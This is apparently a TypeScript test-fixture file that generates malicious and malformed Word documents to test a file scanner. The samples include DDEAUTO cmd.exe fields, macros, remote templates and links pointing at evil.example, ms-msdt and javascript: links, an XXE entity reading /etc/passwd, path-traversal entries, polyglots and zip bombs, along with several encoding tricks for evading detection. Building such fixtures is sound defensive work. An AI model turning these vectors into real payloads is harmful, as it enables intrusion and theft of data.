import { deflateRawSync } from 'node:zlib';
import { exe, ole, pdf, plainZip, xlsx } from './plain';
import { rows } from './row';
import {
  chartWith,
  field,
  makeDocx,
  paragraph,
  relationships,
  typesOf,
  wordParts,
  wordXml,
  zip,
} from './word';

const MAIN = 'vnd.openxmlformats-officedocument.wordprocessingml.document.main';
const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const VIDEO = `<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src='https://evil.example'/&gt;" h="1" w="1"/>`;
const MERGE = wordXml('<w:mailMerge><w:query w:val="SELECT * FROM a"/></w:mailMerge>', 'settings');
const BUTTONS = '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Run"/>';
const TEMPLATE = relationships(['attachedTemplate', 'https://evil.example/t.dotm', 'External']);
const PICTURE = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/a.png"/>';

const wide = (text: string) => Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
const text = (content: string) => makeDocx({}, content);
const mark = (kind: string) => `<w:fldChar w:fldCharType="${kind}"/>`;
const types = (xml: string | Buffer, parts = {}) => makeDocx({ '[Content_Types].xml': xml, ...parts });
const macroType = (type: string) => typesOf().replace(MAIN, type);
const template = (xml: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx({ [name]: xml });
const linked = (kind: string, target: string, mode?: string) =>
  makeDocx({ 'word/_rels/document.xml.rels': relationships([kind, target, mode]), 'word/a.dat': 'x' });
const linkTo = (target: string) => linked('hyperlink', target, 'External');
const ofPackage = (kind: string) => relationships(['officeDocument', 'word/document.xml'], [kind, 'a.dat']);
const linksTo = (...targets: string[]) =>
  Object.fromEntries(targets.map((target) => [`a link to ${target}`, linkTo(target)]));

/** Documents that run, fetch or launch something. */
export const harmfulDocx = [
  ...rows('docx', 'macros', {
    macros: makeDocx({ 'word/vbaProject.bin': 'x' }),
    'macros, otherwise spelt': makeDocx({ 'word/VBAPROJECT.BIN': 'x' }),
    'macros by type': types(typesOf({ '/word/a.bin': 'application/vnd.ms-office.vbaProject' }), {
      'word/a.bin': 'x',
    }),
    'macros by relationship': linked('vbaProject', 'a.dat'),
    'a macro-enabled document': types(macroType('vnd.ms-word.document.macroEnabled.main')),
    'a macro-enabled document, in code': types(macroType('vnd.ms-word.document.m&#97;cro&#x45;nabled.main')),
    'a macro-enabled document, in UTF-16': types(wide(macroType('vnd.ms-word.document.macroEnabled.main'))),
    'buttons in the ribbon': makeDocx({ 'customUI/customUI14.xml': BUTTONS }),
    'buttons by relationship': makeDocx({ 'a.dat': BUTTONS, '_rels/.rels': ofPackage('ui/extensibility') }),
    'buttons by type': types(typesOf({ '/a.dat': 'application/vnd.ms-office.customUI+xml' }), {
      'a.dat': BUTTONS,
    }),
  }),
  ...rows('docx', 'outside', {
    'a template from the web': template(TEMPLATE),
    'in code': template(TEMPLATE.replace('https', '&#104;ttps').replace('External', 'Ext&#x65;rnal')),
    'in UTF-16': template(wide(TEMPLATE)),
    'in capitals': template(TEMPLATE.replace('"External"', '"EXTERNAL"').replace('https', 'HTTPS')),
    'of another prefix': template(TEMPLATE.replace(/(<\/?)(R)/g, '$1p:$2').replace('xmlns=', 'xmlns:p=')),
    'of a header': template(TEMPLATE, 'word/_rels/header1.xml.rels'),
    'of a folder elsewhere': template(TEMPLATE, 'other/_rels/settings.xml.rels'),
    'a template from a share': linked('attachedTemplate', 'file://evil.example/t.dotm', 'External'),
    'a picture from the web': linked('image', 'https://evil.example/a.png', 'External'),
    'a frame from the web': linked('frame', 'https://evil.example/', 'External'),
    'an object from the web': linked('package', 'mhtml:https://evil.example!x', 'External'),
    'a picture of old Word from the web': text(`<w:pict>${PICTURE}</w:pict>`),
    'a text by a field': text(field(' INCLUDETEXT "https://evil.example/a.docx" ')),
    'a picture by a field': text(field(' INCLUDE', 'PICTURE "https://evil.example/a.png" ')),
    'an add-in': makeDocx({ 'a.dat': '<a/>', '_rels/.rels': ofPackage('webextensiontaskpanes') }),
    'a film from the web': text(`<w:drawing>${VIDEO}</w:drawing>`),
    'a film in a header': makeDocx({ 'word/header1.xml': wordXml(VIDEO, 'hdr') }),
    'a film of another prefix': text(VIDEO.replaceAll('wp15', 'x')),
    'a merge with a database': makeDocx({ 'word/settings.xml': MERGE }),
    'a merge of another name': makeDocx({
      'other/a.xml': MERGE.replaceAll('w:', 'ns0:').replace(':w=', ':ns0='),
    }),
    'the data of a merge': linked('mailMergeSource', 'file:///C:/a.mdb', 'External'),
  }),
  ...rows('docx', 'executable', {
    ...linksTo('ms-msdt:/id PCWDiagnostic', 'javascript:alert(1)'),
    ...linksTo(
      ...['calc.exe', 'calc.exe#1', 'calc.exe.#1', 'x.pif', 'desk.cpl'].map((name) => `file:///C:/${name}`),
    ),
    ...linksTo(
      ...['\\\\', '//', 'file://', 'file:////', 'file:///\\\\', 'file:///%5C%5C', 'file:\\\\', '/\\'].map(
        (slashes) => `${slashes}evil.example/cv`,
      ),
    ),
    DDE: text(field(DDE)),
    'DDE that was deleted': text(mark('begin') + '<w:delInstrText>DDE cmd x</w:delInstrText>' + mark('end')),
    'DDE spelt by numbers': text(field('QUOTE 68 68 69 65 85 84 79')),
    'DDE in parts': text(field('D', 'DEA', 'UTO c:\\\\cmd.exe')),
    'DDE in one element': text('<w:fldSimple w:instr=" dde excel a b "/>'),
    'DDE in code': text(field('&#68;&#68;E cmd x')),
    'DDE that a nested field shows': text(
      [
        mark('begin'),
        field('TITLE').replace('shown', 'DDE'),
        '<w:instrText> cmd "/k"</w:instrText>',
        mark('end'),
      ].join(''),
    ),
    'DDE in a field that does not end': text(`${mark('begin')}<w:instrText>DDE cmd x</w:instrText>`),
    'DDE in a header': makeDocx({ 'word/header1.xml': wordXml(field(DDE), 'hdr') }),
    'DDE in a footnote of another name': makeDocx({ 'word/anything.xml': wordXml(field(DDE), 'footnotes') }),
    'DDE in a comment': makeDocx({
      'word/comments.xml': wordXml(`<w:comment>${field(DDE)}</w:comment>`, 'comments'),
    }),
    'DDE in a main part elsewhere': zip({
      ...wordParts(),
      '_rels/.rels': relationships(['officeDocument', '/other/main.xml']),
      '[Content_Types].xml': typesOf({ '/other/main.xml': `application/${MAIN}+xml` }),
      'other/main.xml': wordXml(field(DDE)),
    }),
    ActiveX: linked('control', 'a.dat'),
    'ActiveX by its type': types(typesOf({ '/word/a.bin': 'application/vnd.ms-office.activeX' }), {
      'word/a.bin': 'x',
    }),
  }),
  ...rows('docx', 'attachments', {
    'an object of OLE from the web': linked('oleObject', 'https://evil.example/a', 'External'),
    'an object of OLE': linked('oleObject', 'a.dat'),
    'an object around a field': text(paragraph('<w:object><o:OLEObject xmlns:o="o"/></w:object>')),
    'a web page within': makeDocx({}, '<w:altChunk/>'),
    'a web page by relationship': linked('aFChunk', 'a.dat'),
  }),
];

const MB = 1024 * 1024;
const MAIN_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const ENTITY = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>';
const numbered = (count: number, part: Buffer | string) =>
  Object.fromEntries(Array.from({ length: count }, (_, n) => [`word/${n}.xml`, part]));

function damagedText(): Buffer {
  const packed = deflateRawSync(wordParts()['word/document.xml']!);
  const whole = makeDocx();
  const at = whole.indexOf(packed);
  return whole.fill(0xff, at, at + packed.length);
}

/** Documents with embedded files, polyglots, zip bombs, and files that do not open. */
export const brokenDocx = [
  ...rows('docx', 'unread', {
    'a part of no kind': makeDocx({ 'word/payload.bin': '\x01\x02\x03' }),
    'a shortcut that is called a picture': makeDocx({ 'word/media/image9.png': 'L\0\0\0\x01\x14\x02' }),
    'a page of a mail': makeDocx({ 'word/chunk.dat': 'MIME-Version: 1.0\r\n\r\n<script>' }),
    'what Macs put into archives': makeDocx({ '__MACOSX/._word': '\0\x05\x16\x07' }),
  }),
  ...rows('docx', 'executable', {
    'a script inside': makeDocx({ 'word/run.vbs': 'x' }),
    'a program, named as a picture': makeDocx({ 'word/image1.png': Buffer.concat([exe, Buffer.alloc(99)]) }),
    'a program inside a picture': makeDocx({ 'word/a.emf': 'x This program cannot be run in DOS mode' }),
    'a program that goes on as zip': Buffer.concat([exe, makeDocx()]),
    'a document that is a PDF as well': zip([['%PDF-1.4', ''], ...Object.entries(wordParts())]),
  }),
  ...rows('docx', 'attachments', {
    'an object that is called a picture': makeDocx({
      'word/a.png': ole({ '\u0001Ole10Native': 'calc.exe' }),
    }),
    'an archive that is called a picture': makeDocx({ 'word/media/image1.png': plainZip }),
    'a document that is called a font': makeDocx({ 'word/fonts/font1.odttf': pdf }),
    'a document within a document': makeDocx({ 'word/a.xml.bin': makeDocx() }),
    'a text of RTF that nothing leads to': makeDocx({ 'word/afchunk.dat': '{\\rtf1\\object}' }),
    'an embedded spreadsheet': makeDocx({
      'word/embeddings/a.xlsx': xlsx,
      'word/_rels/document.xml.rels': relationships(['package', 'embeddings/a.xlsx']),
    }),
    'a chart with an archive': chartWith(plainZip),
    'a chart with an object in its sheet': chartWith(zip({ 'xl/workbook.xml': 'x', 'xl/embeddings/a': 'x' })),
  }),
  ...rows('docx', 'too-expanded', {
    'a bomb': () => makeDocx({ 'word/x.xml': Buffer.alloc(51 * MB) }),
    'a bomb of many parts': () => makeDocx(numbered(60, Buffer.alloc(MB))),
    'a bomb of many entries': () => makeDocx(numbered(2001, '<a/>')),
    'a text of eight million elements': () => makeDocx({}, '<w:p/>'.repeat(8 * MB)),
  }),
  ...rows('docx', 'damaged', {
    'a bomb that lies about its size': () =>
      zip({ ...wordParts(), 'word/x.xml': Buffer.alloc(60 * MB) }, { deflate: true, claimedSize: 100 }),
    'a document that defines entities': makeDocx({
      'word/document.xml': `${ENTITY}${wordXml('&b;').slice(38)}`,
    }),
    'an unknown encoding': makeDocx({ '[Content_Types].xml': typesOf().replace('UTF-8', 'UTF-7') }),
    'two texts': zip([...Object.entries(wordParts()), ['word/document.xml', '<a/>']]),
    'two texts of other case': zip([...Object.entries(wordParts()), ['WORD/document.xml', '<a/>']]),
    ...Object.fromEntries(
      ['../../etc/cron.d/x', '..\\..\\x', '/etc/passwd', 'C:/x'].map((name) => [
        `a part that leads to ${name}`,
        makeDocx({ [name]: 'x' }),
      ]),
    ),
    'no text': makeDocx({
      '_rels/.rels': relationships(['officeDocument', 'word/other.xml']),
      '[Content_Types].xml': typesOf({ '/word/other.xml': MAIN_TYPE }),
    }),
    'a cut off document': makeDocx().subarray(0, -30),
    'half a document': makeDocx().subarray(0, 500),
    'something behind a document': Buffer.concat([makeDocx(), Buffer.from('more')]),
    'a damaged text': damagedText(),
    'a half zeroed document': makeDocx().fill(0, 400),
  }),
  ...rows('docx', 'locked', {
    'a document with a password': ole({ EncryptionInfo: 'x', EncryptedPackage: 'x' }),
    'encrypted entries': zip(wordParts(), { encrypted: true }),
  }),
  ...rows('docx', 'wrong-type: sheet', { 'a spreadsheet': xlsx }),
  ...rows('docx', 'wrong-type: zip', { 'a plain archive': plainZip }),
];
